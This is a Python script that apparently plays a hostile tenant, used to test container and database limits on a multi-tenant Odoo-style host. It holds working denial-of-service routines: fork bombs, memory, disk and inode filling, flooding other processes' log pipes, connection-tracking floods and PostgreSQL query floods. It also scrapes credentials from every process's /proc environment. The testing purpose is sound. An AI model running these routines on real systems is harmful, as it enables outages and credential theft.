"""What a hostile tenant runs in its container: `python3 - NAME SECONDS < bombs.py`. Takes all that it can get until it is ended.

Nothing here asks for more than what the machine lets a container have: run it only where that is limited.
"""
import os
import re
import resource
import socket
import sys
import time

NAME, SECONDS = sys.argv[1], float(sys.argv[2])
END = time.monotonic() + SECONDS


def goes_on():
    return time.monotonic() < END


def as_many_as_possible(what):
    """Begins processes until the kernel says no, each of which does `what`."""
    while True:
        try:
            if os.fork() == 0:
                break
        except OSError:
            break
    while goes_on():
        what()


def writable():
    """Every folder to which something can be written."""
    seen = {'/tmp', '/dev/shm', '/dev/mqueue', '/run', '/var/tmp', '/run/lock', '/run/secrets', '/var/log', '/home'}
    with open('/proc/self/mounts', encoding='utf-8') as mounts:
        seen.update(line.split()[1] for line in mounts)
    for folder in sorted(seen):
        path = os.path.join(folder, f'bomb-{os.getpid()}')
        try:
            os.close(os.open(path, os.O_CREAT | os.O_WRONLY | os.O_EXCL, 0o600))
            os.unlink(path)
            yield folder
        except OSError:
            pass


def fork():
    """Each child forks too."""
    while goes_on():
        try:
            os.fork()
        except OSError:
            sum(range(1000))


def memory():
    """Again and again: what takes too much is ended by the kernel, and the next one begins."""
    while goes_on():
        child = os.fork()
        if child == 0:
            held = []
            while True:
                held.append(bytearray(os.urandom(4096)) * 4096)
        os.waitpid(child, 0)


def disk():
    """dd to every path, without end."""
    folders, block = list(writable()), os.urandom(1 << 20)
    while goes_on():
        for folder in folders:
            path, written = os.path.join(folder, 'bomb'), 0
            try:
                with open(path, 'wb', buffering=0) as file:
                    while goes_on():
                        written += file.write(block)
            except OSError:
                pass
            print(folder, written, file=sys.stderr)
            try:
                os.unlink(path)
            except OSError:
                pass


def log():
    """To every pipe of another process that can be opened: one of them is what Docker reads, or leads there."""
    lines, outs = (b'bomb ' * 40 + b'\n') * 300, []
    for pid in filter(str.isdigit, os.listdir('/proc')):
        if int(pid) == os.getpid():
            continue
        for number in (1, 2):
            try:
                outs.append(os.open(f'/proc/{pid}/fd/{number}', os.O_WRONLY))
            except OSError:
                pass
    print('floods', len(outs), file=sys.stderr)
    for _ in range(2):
        os.fork()
    while goes_on():
        for out in outs:
            os.write(out, lines)


def files():
    """Opens whatever it can, in as many processes as it can."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    held = []

    def one():
        try:
            held.append(os.open('/dev/null', os.O_RDONLY))
        except OSError:
            time.sleep(0.05)

    as_many_as_possible(one)


def inodes():
    """Empty files wherever they can be."""
    folders = list(writable())
    for folder in folders[1:]:
        if os.fork() == 0:
            folders = [folder]
            break
    made = 0
    while goes_on():
        try:
            os.close(os.open(os.path.join(folders[0], f'bomb-{os.getpid()}-{made}'), os.O_CREAT | os.O_WRONLY, 0o600))
            made += 1
        except OSError:
            time.sleep(0.05)


def cpu():
    as_many_as_possible(lambda: sum(range(10000)))


def plain():
    """No bomb: work, and no more of it than one process does."""
    while goes_on():
        sum(range(10000))


def read():
    """Reads everything that there is from the disk, and lets the machine forget it."""
    while goes_on():
        for folder, _, names in os.walk('/usr'):
            for name in names:
                try:
                    with open(os.path.join(folder, name), 'rb') as file:
                        while file.read(1 << 20):
                            pass
                        os.posix_fadvise(file.fileno(), 0, 0, os.POSIX_FADV_DONTNEED)
                except OSError:
                    pass
                if not goes_on():
                    return


def packets():
    """A datagram to a new address each time: the machine keeps track of every one that it lets through."""
    one, count = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), 0
    while goes_on():
        count += 1
        try:
            one.sendto(b'x', (f'198.51.100.{count % 250 + 1}', 1024 + count // 250 % 60000))
        except OSError:
            time.sleep(0.01)


# Inside the tenant's database, by its own login. ------------------------------------------------


def connect():
    import psycopg2
    # As the tenant would: nothing of what we set for its sessions stays.
    one = psycopg2.connect('', options='-c statement_timeout=0 -c idle_in_transaction_session_timeout=0')
    one.autocommit = True
    return one


def credentials():
    """What Odoo's own process was started with. That of the first process cannot be read."""
    words = {}
    for pid in filter(str.isdigit, os.listdir('/proc')):
        try:
            with open(f'/proc/{pid}/environ', encoding='utf-8') as file:
                words.update(word.split('=', 1) for word in file.read().split('\0') if '=' in word)
        except OSError:
            pass
    os.environ.update({name: value for name, value in words.items() if re.match('PG|SAYOO_', name)})
    os.environ['PGDATABASE'] = words['SAYOO_DATABASE']
    if 'SAYOO_DB_PASSWORD_FILE' in words:
        with open(words['SAYOO_DB_PASSWORD_FILE'], encoding='utf-8') as file:
            os.environ['PGPASSWORD'] = file.read().strip()


def on_every_connection(*statements):
    """As many connections as there may be, each of which says the same, again and again."""
    credentials()
    while goes_on():
        if os.fork() == 0:
            try:
                one = connect().cursor()
                while goes_on():
                    for statement in statements:
                        one.execute(statement)
            except Exception as error:
                print(str(error).strip(), file=sys.stderr)
                time.sleep(1)
            os._exit(0)
        time.sleep(0.02)
        # Those that were refused or ended leave their place to another try.
        if len(os.listdir('/proc')) > 150:
            time.sleep(0.5)
        try:
            while os.waitpid(-1, os.WNOHANG)[0]:
                pass
        except ChildProcessError:
            pass


def pg_sleep():
    on_every_connection('BEGIN', 'SELECT pg_sleep(3600)')


def pg_idle():
    on_every_connection('BEGIN', 'SELECT txid_current()', 'SELECT pg_sleep(0.1)', 'ROLLBACK')


def pg_sort():
    on_every_connection("SELECT count(*) FROM (SELECT md5(i::text) || repeat('x', 200) FROM generate_series(1, 400000000) AS i ORDER BY 1) AS it")


def pg_notify():
    on_every_connection('LISTEN flood', "SELECT count(pg_notify('flood', i || repeat('x', 7000))) FROM generate_series(1, 2000) AS i")


def pg_cpu():
    on_every_connection('SELECT count(*) FROM generate_series(1, 30000) AS a, generate_series(1, 30000) AS b')


globals()[NAME]()
